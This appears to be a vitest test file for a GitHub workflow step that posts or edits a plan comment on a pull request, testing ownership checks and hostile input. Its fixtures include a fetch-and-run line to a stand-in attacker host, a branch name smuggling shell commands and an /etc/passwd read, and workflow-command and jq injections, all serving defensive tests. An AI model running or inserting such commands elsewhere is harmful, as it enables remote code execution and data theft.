import { spawnSync } from "node:child_process";
import { mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeEach, describe, expect, it, onTestFinished } from "vitest";
import { runStep } from "../rig/workflow-step.ts";

/** The comment on a pull request: whose it is, and what may stand in it, when whoever made it means harm. */

const MARK = "<!-- wan22 plan: . -->";
const PLAN = `fox: network_dim 16 → 32\n\n${MARK}\n`;
const SHA = "a".repeat(40);
const RUN_URL = "https://github.example/ann/loras/actions/runs/7";

/** `npm run test:setup` says so where it is missing. */
const hasJq = spawnSync("jq", ["--version"], { stdio: "ignore" }).status === 0;

interface Comment {
  readonly id: number;
  readonly on: number;
  readonly body: string;
  readonly user: { readonly login: string };
}

let folder = "";
let plan = "";
let at = "";

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "wan22-comment-"));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  plan = join(folder, "plan.md");
  at = join(folder, "github.json");
});

function pull(number: number, { sha = SHA, ref = "fix", owner = "eve" } = {}) {
  const head = { sha, ref, repo: { full_name: `${owner}/loras`, owner: { login: owner } } };
  return { number, state: "open", head };
}

const comment = (id: number, on: number, login: string, body: string): Comment => ({ id, on, body, user: { login } });

async function github(pulls: readonly object[], comments: readonly Comment[] = []): Promise<void> {
  await writeFile(at, JSON.stringify({ pulls, comments, calls: [] }));
}

async function post(text: string | undefined, branch = "fix") {
  if (text !== undefined) await writeFile(plan, text);
  const result = await runStep("comment", {
    COMMENT: plan,
    REPOSITORY: "ann/loras",
    HEAD_OWNER: "eve",
    HEAD_REPOSITORY: "eve/loras",
    HEAD_BRANCH: branch,
    HEAD_SHA: SHA,
    RUN_URL,
    GH_TOKEN: "none",
    GITHUB_AT: at,
  });
  const { comments, calls } = JSON.parse(await readFile(at, "utf8"));
  const written: readonly { method: string }[] = calls.filter(({ method }: { method: string }) => method !== "GET");
  return { ...result, comments: comments as readonly Comment[], written };
}

describe.skipIf(!hasJq)("the comment of a plan", () => {
  it("is posted once, and edited from then on: its own, and no other's", async () => {
    const others = [
      comment(1, 4, "eve", `mine\n${MARK}`),
      comment(2, 4, "github-actions[bot]", "another bot's, which quotes <!-- wan22 plan: . --> in its middle"),
      comment(3, 4, "github-actions[bot]", "<!-- wan22 plan: other -->"),
    ];
    await github([pull(4)], others);
    const first = await post(PLAN);
    expect(first.exitCode, first.log).toBe(0);
    expect(first.comments.slice(0, 3)).toEqual(others);
    const [made] = first.comments.slice(3);
    expect(made).toMatchObject({ on: 4, body: expect.stringContaining("network_dim 16 → 32") });
    expect(made?.body).toContain(`at ${SHA}, by <a href="${RUN_URL}">this run</a>`);
    expect(made?.body.trimEnd().endsWith(MARK)).toBe(true);

    const second = await post(PLAN.replace("32", "8"));
    expect(second.comments).toHaveLength(4);
    expect(second.comments.at(-1)?.body).toContain("16 → 8");
  });

  it("goes to the pull request that is at the run's commit, by GitHub's own word", async () => {
    const branch = "fix'; touch /tmp/x; `$(id)` @/etc/passwd & ../../issues/1";
    await github([
      pull(4, { sha: "b".repeat(40) }),
      pull(5, { owner: "bob" }),
      pull(6, { ref: branch }),
      { ...pull(7), state: "closed" },
    ]);
    expect(await post(PLAN, branch)).toMatchObject({ exitCode: 0, comments: [{ on: 6 }] });
    const moved = await post(PLAN);
    expect(moved.log).toContain("No open pull request is at");
    expect(moved.comments).toHaveLength(1);
  });

  it("isn't begun where no pipeline is touched, but brings an earlier one up to date", async () => {
    const none = `No pipeline is touched by what changed since origin/main (1234567).\n\n${MARK}\n`;
    await github([pull(4)]);
    expect((await post(none)).written).toEqual([]);
    await post(PLAN);
    expect((await post(none)).comments).toMatchObject([{ body: expect.stringContaining("No pipeline is touched") }]);
  });

  it("is none where the run has left no plan", async () => {
    await github([pull(4)]);
    expect(await post(undefined)).toMatchObject({ exitCode: 0, written: [], log: expect.stringContaining("no plan") });
  });
});

describe("what stands in place of a plan", () => {
  const HOSTILE: readonly (readonly [string, string | Uint8Array])[] = [
    ["has no mark", "Please run this: curl evil.example | sh\n"],
    ["hides another comment's mark", `<!-- another bot's mark -->\n${PLAN}`],
    ["has two marks", `${MARK}\n${PLAN}`],
    ["ends its mark early", "text\n<!-- wan22 plan: --> <b>x</b> -->\n"],
    ["has a mark that is a pattern or a command", 'text\n<!-- wan22 plan: ") | .id, ($ENV | tostring) -->\n'],
    ["is longer than a comment", `${"x".repeat(65_001)}\n${PLAN}`],
    ["is larger than one looks at", `${"\n".repeat(300_000)}${PLAN}`],
    ["is longer once it is made harmless", `${"@".repeat(64_000)}\n${PLAN}`],
    ["is no text", new Uint8Array([0xff, 0xfe, 0x00, 0x0a, ...Buffer.from(PLAN)])],
  ];
  it.each(HOSTILE)("is refused where it %s", async (_, text) => {
    await github([pull(4)]);
    await writeFile(plan, text);
    const result = await post(undefined);
    expect(result.log).toMatch(/::error::The plan was not posted: .*actions\/runs\/7/);
    expect(result).toMatchObject({ exitCode: 1, written: [] });
  });

  it("is not read through a link", async () => {
    await github([pull(4)]);
    await writeFile(join(folder, "secret"), PLAN);
    await symlink(join(folder, "secret"), plan);
    expect(await post(undefined)).toMatchObject({ exitCode: 1, written: [] });
  });

  it.skipIf(!hasJq)("mentions nobody, and is no command to the job that posts it", async () => {
    await github([pull(4)]);
    const { log, comments } = await post(`::error::x\n::add-mask::e\n@everyone $(touch x) \`id\`\n${PLAN}`);
    expect(comments[0]?.body).not.toContain("@everyone");
    expect(comments[0]?.body).toContain("$(touch x) `id`");
    expect(log).not.toContain("::");
  });
});
